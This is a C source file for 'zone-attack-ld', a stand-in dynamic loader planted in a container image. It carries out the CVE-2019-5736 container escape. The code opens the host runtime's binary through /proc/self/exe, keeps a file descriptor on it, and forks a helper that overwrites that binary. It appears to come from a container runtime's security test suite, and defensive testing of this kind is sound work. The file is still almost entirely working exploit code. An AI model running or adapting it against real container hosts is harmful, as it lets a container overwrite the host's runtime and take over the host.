/* zone-attack-ld: a stand-in for an image's dynamic loader (/lib64/ld-linux-x86-64.so.2), the
 * CVE-2019-5736 vector. When the zone runs a dynamic program the kernel maps that program and
 * starts this one: when the program is the runtime itself (reached through /proc/self/exe),
 * this code runs with /proc/self/exe naming the runtime's binary on the host. It keeps an
 * O_PATH fd on it, hands the fd to a fresh process that no longer maps the binary (zone-attack
 * exe-reopen, which writes the binary once it is not busy) and exits.
 * No libc: glibc's start-up reads the auxiliary vector of the program being loaded and cannot
 * run as an interpreter. x86-64 only. */
#include <fcntl.h>
#include <sys/syscall.h>

#include "raw_syscall.h"

static void say(const char *s)
{
        long n = 0;
        while (s[n])
                n++;
        sys3(SYS_write, 2, (long)s, n);
}

void loader_main(long *sp)
{
        char **envp = (char **)(sp + 1 + sp[0] + 1);
        long fd = sys3(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
        if (fd < 0) {
                say("zone-attack-ld: cannot open /proc/self/exe\n");
                sys3(SYS_exit_group, 1, 0, 0);
        }
        say("zone-attack-ld: holding the program's binary\n");
        if (fd != 100)
                sys3(SYS_dup2, fd, 100, 0);
        long pid = sys3(SYS_fork, 0, 0, 0);
        if (pid == 0) {
                static char *const argv[] = {"zone-attack", "exe-reopen-bg", "100", "8", 0};
                sys3(SYS_execve, (long)"/zone-attack", (long)argv, (long)envp);
                say("zone-attack-ld: cannot run /zone-attack\n");
                sys3(SYS_exit_group, 127, 0, 0);
        }
        sys3(SYS_exit_group, 0, 0, 0);
}

/* The kernel enters with the stack holding argc, argv, envp and the auxiliary vector. */
__asm__(".globl _start\n"
        "_start:\n"
        "  mov %rsp, %rdi\n"
        "  and $-16, %rsp\n"
        "  call loader_main\n"
        "  hlt\n");
